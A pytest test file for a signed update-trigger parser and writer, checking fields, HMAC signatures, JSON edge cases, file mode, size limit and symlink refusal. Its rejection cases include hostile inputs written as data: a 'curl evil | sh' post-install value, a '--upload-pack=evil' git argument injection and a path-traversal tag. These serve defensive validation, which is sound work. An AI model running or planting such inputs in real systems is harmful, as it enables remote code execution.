"""`contract.trigger`: the fields, their checks and the file's size, mode and no-follow read."""

from __future__ import annotations

import base64
import json
import os
import stat
import uuid

import pytest

from contract import signing, trigger
from contract.events import UnsignedTrigger

SECRET = "t" * 48


def fields(**changes: object) -> dict[str, object]:
    """A trigger's fields, signed after `changes` unless they set the signature themselves."""
    unsigned: UnsignedTrigger = {
        "run_id": str(uuid.uuid4()),
        "target_version": "1.2.0",
        "git_tag": "v1.2.0",
        "git_commit": "a" * 40,
        "requested_by": "zoë",
        "requested_at": "2026-11-27T12:00:00Z",
        "manifest": base64.b64encode(b'{"version": "1.2.0"}').decode(),
    }
    if not changes:
        return dict(trigger.sign(unsigned, SECRET))
    values: dict[str, object] = {**unsigned, **changes}
    values.setdefault("signature", signing.trigger_signature(SECRET, values))
    return values


def data(values: dict[str, object]) -> bytes:
    return json.dumps(values).encode()


def test_a_signed_trigger_parses_into_its_fields():
    values = fields(run_id="9F0E3C56-1D2B-4C3A-8E7F-6A5B4C3D2E1F")
    parsed = trigger.parse(data(values), secret=SECRET)
    assert parsed.run_id == "9f0e3c56-1d2b-4c3a-8e7f-6a5b4c3d2e1f"
    assert (parsed.target_version, parsed.git_tag, parsed.git_commit) == ("1.2.0", "v1.2.0", "a" * 40)
    assert parsed.requested_by == "zoë"
    assert parsed.manifest == b'{"version": "1.2.0"}'


def test_a_pep_440_post_release_is_a_version():
    assert (
        trigger.parse(data(fields(target_version="1.2.0.post1")), secret=SECRET).target_version
        == "1.2.0.post1"
    )


def test_sign_gives_exactly_the_files_fields():
    assert tuple(fields()) == trigger.FIELDS


@pytest.mark.parametrize(
    ("values", "why"),
    [
        (fields(post_install="curl evil | sh"), "unknown field(s): post_install"),
        ({k: v for k, v in fields().items() if k != "git_commit"}, "missing field(s): git_commit"),
        (fields(signature="A" * 64), "not a hex HMAC-SHA256"),
        (fields(signature=None), "not a hex HMAC-SHA256"),
        ({**fields(), "requested_by": "someone else"}, "bad signature"),
        (fields(run_id="not-a-uuid"), "run_id is not a UUID"),
        (fields(run_id="{" + str(uuid.uuid4()) + "}"), "run_id is not a UUID"),
        (fields(run_id=7), "field 'run_id' must be a non-empty string"),
        (fields(target_version="latest"), "target_version 'latest' is not a version"),
        (fields(git_tag="--upload-pack=evil"), "not a plain tag name"),
        (fields(git_tag="v1/../../x"), "not a plain tag name"),
        (fields(git_commit="A" * 40), "git_commit must be 40 lowercase hex digits or null"),
        (fields(git_commit="abc"), "git_commit must be 40 lowercase hex digits or null"),
        (fields(requested_by=""), "field 'requested_by' must be a non-empty string"),
        (fields(manifest="not base64!"), "manifest is not valid base64"),
    ],
)
def test_a_trigger_that_does_not_hold_is_refused_with_the_reason(values, why):
    with pytest.raises(trigger.TriggerError) as refused:
        trigger.parse(data(values), secret=SECRET)
    assert why in str(refused.value)


def test_another_secret_is_a_bad_signature():
    with pytest.raises(trigger.TriggerError, match="bad signature"):
        trigger.parse(data(fields()), secret="x" * 48)


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"[1, 2]", "the trigger is not a JSON object"),
        (b"[" * 50000, "the trigger is not JSON (nested too deeply)"),
        (b'{"run_id": "\\ud800"}', "lone surrogate"),
        (b'{"run_id": "a", "run_id": "b"}', "repeats the key 'run_id'"),
        (b"\xff", "not UTF-8 text"),
    ],
)
def test_bytes_that_are_not_a_json_object_are_refused(raw, why):
    with pytest.raises(trigger.TriggerError, match=why.replace("(", r"\(").replace(")", r"\)")):
        trigger.parse(raw, secret=SECRET)


def test_write_creates_the_directory_and_a_0640_file_the_reader_accepts(tmp_path):
    directory = tmp_path / "data" / "updates"
    path = trigger.write(directory, fields())
    assert path == directory / "trigger"
    assert stat.S_IMODE(os.lstat(path).st_mode) == 0o640
    assert trigger.parse(trigger.read(path).data, secret=SECRET).git_tag == "v1.2.0"


def test_a_trigger_over_512_kib_is_never_written(tmp_path):
    with pytest.raises(trigger.TriggerError, match="over 524288"):
        trigger.write(tmp_path, fields(manifest="x" * (600 * 1024)))
    assert not (tmp_path / "trigger").exists()


def test_read_refuses_a_link_as_a_trigger_error(tmp_path):
    (tmp_path / "elsewhere").write_bytes(data(fields()))
    (tmp_path / "trigger").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(trigger.TriggerError, match="the trigger is a symbolic link"):
        trigger.read(tmp_path / "trigger")
